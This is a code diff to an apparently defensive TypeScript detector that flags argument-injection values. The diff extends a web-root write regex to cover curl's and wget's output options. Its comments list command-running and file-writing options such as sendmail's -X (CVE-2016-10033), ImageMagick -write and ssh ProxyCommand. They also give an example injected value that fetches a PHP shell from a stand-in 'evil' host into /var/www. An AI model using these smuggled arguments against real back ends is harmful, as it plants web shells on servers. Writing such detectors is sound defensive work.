@@ -7,8 +7,10 @@
  * `--to-command`, `--use-compress-program`, rsync's `--rsh`, ssh's
  * `-oProxyCommand=…`, find's `-exec`, zip's `-TT`/`--unzip-command`, ripgrep's `--pre`; and
  * options that write a file where the value says, which plants a script in
- * the web root: sendmail's `-X/var/www/x.php` (PHPMailer, CVE-2016-10033)
- * and ImageMagick's `-write /var/www/x.php` or `-write msl:…`.
+ * the web root: sendmail's `-X/var/www/x.php` (PHPMailer, CVE-2016-10033),
+ * ImageMagick's `-write /var/www/x.php` or `-write msl:…`, and curl's or
+ * wget's `-o`/`-O`/`--output(-document)` after a URL a back end fetches
+ * (`http://x -o /var/www/html/s.php http://evil/s.txt`).
  * The shell detectors judge a command line that a shell would read; these
  * options need no shell: the program itself starts what follows them. The
  * option must stand as an argument (the value's start or after a blank,
@@ -28,14 +30,14 @@ const EXEC_OPTION =
  * Ctrl-X", "curl -X POST" and "-write out.png" name no such target.
  */
 const WRITE_OPTION =
-  /(?:^|[\s"'])(?:-write\s+(?:[a-z]{2,10}:|\.{0,2}\/)|(?:-X\s?|-write\s+)[^\s"']*(?:\/(?:var\/www|srv\/www|htdocs|public_html|wwwroot|webapps)\/|\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi)(?=$|[\s"'])))/;
+  /(?:^|[\s"'])(?:-write\s+(?:[a-z]{2,10}:|\.{0,2}\/)|(?:-X\s?|-write\s+|-[oO]\s?|--output(?:-document)?[=\s])[^\s"']*(?:\/(?:var\/www|srv\/www|htdocs|public_html|wwwroot|webapps)\/|\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi)(?=$|[\s"'])))/;
 
 /** What a command to run has and a sentence ("use --exec to run a command") has not: a quote, a path, a pipe, a `;`, a `$` or a backtick. */
 const COMMAND_SHAPE = /['"/|;$`]/;
 
 export function execOption(value: string): boolean {
   if (value.length >= 8192 || !value.includes("-")) return false;
-  if ((value.includes("-X") || value.includes("-write")) && WRITE_OPTION.test(value)) return true;
+  if (/-[XwoO]|--output/.test(value) && WRITE_OPTION.test(value)) return true;
   EXEC_OPTION.lastIndex = 0;
   for (let m = EXEC_OPTION.exec(value); m !== null; m = EXEC_OPTION.exec(value)) {
     const end = m.index + m[0].length;
